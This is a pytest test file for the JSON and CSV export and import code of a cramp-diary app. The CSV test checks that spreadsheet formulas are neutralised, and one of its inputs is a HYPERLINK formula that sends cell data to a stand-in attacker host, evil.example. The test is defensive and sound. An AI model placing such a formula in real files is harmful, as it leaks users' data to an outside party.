from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
from pathlib import Path

import pytest

from crampwise.domain.profile import HealthProfile
from crampwise.exchange import (
    ExchangeError,
    export_csv,
    export_json,
    import_file,
    render_csv,
    render_json,
)
from crampwise.exchange.codec import EPISODE_FIELDS, FORMULA_STARTS, episode_to_dict
from crampwise.storage.store import EpisodeStore

from .conftest import FORMULA_NOTES, fill, snapshot, tricky_episodes, tricky_profile


def without_export_time(text: str) -> dict[str, object]:
    doc = json.loads(text)
    del doc["exported_at"]
    return doc  # type: ignore[no-any-return]


def test_an_episode_has_the_documented_fields_in_order(store: EpisodeStore) -> None:
    for saved in fill(store, tricky_episodes()):
        assert tuple(episode_to_dict(saved)) == EPISODE_FIELDS


def test_json_round_trip_is_exact(
    store: EpisodeStore, empty_store: EpisodeStore, tmp_path: Path
) -> None:
    fill(store, tricky_episodes())
    store.save_profile(tricky_profile())
    first = tmp_path / "diary.json"
    assert export_json(store, first) == len(tricky_episodes())

    report = import_file(empty_store, first)
    assert (report.added, report.already_there, report.profile) == (
        len(tricky_episodes()),
        0,
        "imported",
    )
    assert snapshot(empty_store) == snapshot(store)
    # Offsets and microseconds survive too, not just the instants.
    assert without_export_time(render_json(empty_store)) == without_export_time(first.read_text())
    doc = json.loads(first.read_text(encoding="utf-8"))
    assert (doc["format"], doc["format_version"]) == ("crampwise", 1)
    assert doc["episodes"][0]["started_at"] == "2026-03-29T01:59:30.123456+01:00"
    assert doc["profile"]["medications"][0] == {
        "name": "Lasix",
        "drug_class": "loop_diuretic",
        "started": "2026-09-01",
        "stopped": None,
    }


def test_csv_round_trip_is_exact(
    store: EpisodeStore, empty_store: EpisodeStore, tmp_path: Path
) -> None:
    fill(store, tricky_episodes())
    store.save_profile(tricky_profile())
    first = tmp_path / "diary.csv"
    export_csv(store, first)

    report = import_file(empty_store, first)
    assert (report.added, report.already_there, report.profile) == (
        len(tricky_episodes()),
        0,
        "none",
    )
    assert snapshot(empty_store)[0] == snapshot(store)[0]
    again = tmp_path / "again.csv"
    export_csv(empty_store, again)
    assert again.read_bytes() == first.read_bytes()


def test_csv_is_utf8_with_bom_one_row_per_episode_and_formulas_neutralised(
    store: EpisodeStore, tmp_path: Path
) -> None:
    fill(store, tricky_episodes())
    path = tmp_path / "diary.csv"
    export_csv(store, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,night,started_at,")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(EPISODE_FIELDS)
    assert len(rows) == 1 + len(tricky_episodes())
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    notes = [row[EPISODE_FIELDS.index("note")] for row in rows[1:]]
    for note in FORMULA_NOTES:
        assert "'" + note in notes
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click for help")' in notes
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["locations"] == "calf;toes"
    assert first["steps"] == "calf_stretch:yes;massage:no;heat;odd\\;id\\:with\\\\escapes:yes"
    assert first["tags"] == "''quote;-minus;=sum(1);a\\;b;alcohol;back\\\\slash"
    assert first["woke_from_sleep"] == "yes" and first["helped"] == "no"
    assert first["duration_seconds"] == "89.876544"
    assert render_csv(store) == raw.decode("utf-8-sig")


def test_exports_are_private_atomic_and_replace_an_old_file(
    store: EpisodeStore, tmp_path: Path
) -> None:
    fill(store, tricky_episodes())
    for name, export in (("d.json", export_json), ("d.csv", export_csv)):
        target = tmp_path / name
        target.write_text("old, world-readable")
        target.chmod(0o644)
        export(store, target)
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        assert "old" not in target.read_text(encoding="utf-8-sig")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_an_export_that_cannot_be_written_leaves_the_old_file_and_no_debris(
    store: EpisodeStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ExchangeError, match="Cannot write to"):
        export_json(store, tmp_path / "no" / "such" / "folder" / "d.json")
    fill(store, tricky_episodes())
    out = tmp_path / "out"
    out.mkdir()
    target = out / "d.json"
    target.write_text("the previous export")

    def disk_full(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", disk_full)
    with pytest.raises(ExchangeError, match="No space left on device"):
        export_json(store, target)
    assert target.read_text() == "the previous export"
    assert [p.name for p in out.iterdir()] == ["d.json"]


def test_importing_the_same_file_twice_adds_nothing(
    store: EpisodeStore, empty_store: EpisodeStore, tmp_path: Path
) -> None:
    episodes = tricky_episodes()
    fill(store, [*episodes, episodes[1]])  # two identical episodes: both must come over once
    store.save_profile(tricky_profile())
    for name, export in (("d.json", export_json), ("d.csv", export_csv)):
        export(store, tmp_path / name)
    first = import_file(empty_store, tmp_path / "d.json")
    assert first.added == len(episodes) + 1
    before = snapshot(empty_store)
    for name in ("d.json", "d.csv", "d.json"):
        again = import_file(empty_store, tmp_path / name)
        assert (again.added, again.already_there) == (0, len(episodes) + 1)
        assert again.profile in ("same", "none")
        assert snapshot(empty_store) == before
    assert "already in the diary" in again.message()


def test_an_import_never_overwrites_a_different_episode_at_the_same_moment(
    store: EpisodeStore, empty_store: EpisodeStore, tmp_path: Path
) -> None:
    original = fill(empty_store, tricky_episodes()[:1])[0]
    edited = original.replace(note="edited on the other computer", id=None)
    fill(store, [edited])
    export_json(store, tmp_path / "d.json")
    report = import_file(empty_store, tmp_path / "d.json")
    assert (report.added, report.already_there, report.same_start) == (1, 0, 1)
    assert "both were kept" in report.message()
    notes = sorted(e.note for e in empty_store.episodes())
    assert notes == sorted([original.note, edited.note])


def test_file_ids_are_kept_when_free_and_replaced_when_taken(
    store: EpisodeStore, empty_store: EpisodeStore, tmp_path: Path
) -> None:
    saved = fill(store, tricky_episodes()[:3])
    store.delete(saved[0].id or 0)
    export_json(store, tmp_path / "d.json")  # ids 2 and 3
    other = fill(empty_store, tricky_episodes()[5:7])  # ids 1 and 2, different content
    import_file(empty_store, tmp_path / "d.json")
    by_note = {e.note: e.id for e in empty_store.episodes()}
    assert by_note[saved[2].note] == 3  # free: kept
    assert by_note[saved[1].note] == 4  # 2 was taken: a fresh id
    assert {by_note[o.note] for o in other} == {1, 2}


@pytest.mark.parametrize(
    ("stored", "in_file", "outcome"),
    [
        (HealthProfile(), tricky_profile(), "imported"),
        (tricky_profile(), tricky_profile(), "same"),
        (HealthProfile(conditions=frozenset({"thyroid"})), tricky_profile(), "kept"),
        (HealthProfile(conditions=frozenset({"thyroid"})), HealthProfile(), "none"),
    ],
)
def test_the_profile_in_a_file_only_fills_an_empty_one(
    store: EpisodeStore,
    empty_store: EpisodeStore,
    tmp_path: Path,
    stored: HealthProfile,
    in_file: HealthProfile,
    outcome: str,
) -> None:
    store.save_profile(in_file)
    export_json(store, tmp_path / "d.json")
    empty_store.save_profile(stored)
    report = import_file(empty_store, tmp_path / "d.json")
    assert report.profile == outcome
    assert empty_store.profile() == (in_file if outcome == "imported" else stored)
